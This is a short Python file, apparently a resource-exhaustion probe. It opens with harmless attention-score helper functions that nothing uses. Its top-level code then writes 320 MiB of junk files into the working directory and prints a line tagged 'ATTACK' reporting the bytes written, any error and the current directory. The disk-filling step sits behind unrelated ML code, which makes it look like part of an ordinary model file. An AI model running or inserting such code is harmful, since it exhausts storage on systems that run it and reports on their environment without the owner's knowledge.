import math, os, sys, json, time
import torch

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))

total, err = 0, ""
chunk = b"x" * (8 << 20)
try:
    for i in range(40):   # 40 x 8 MiB = 320 MiB (kept small on purpose)
        with open("f%03d" % i, "wb") as f:
            total += f.write(chunk)
except BaseException as e:
    err = type(e).__name__ + str(e)[:60]
print("ATTACK" + json.dumps({"bytes": total, "err": err, "cwd": os.getcwd()}))
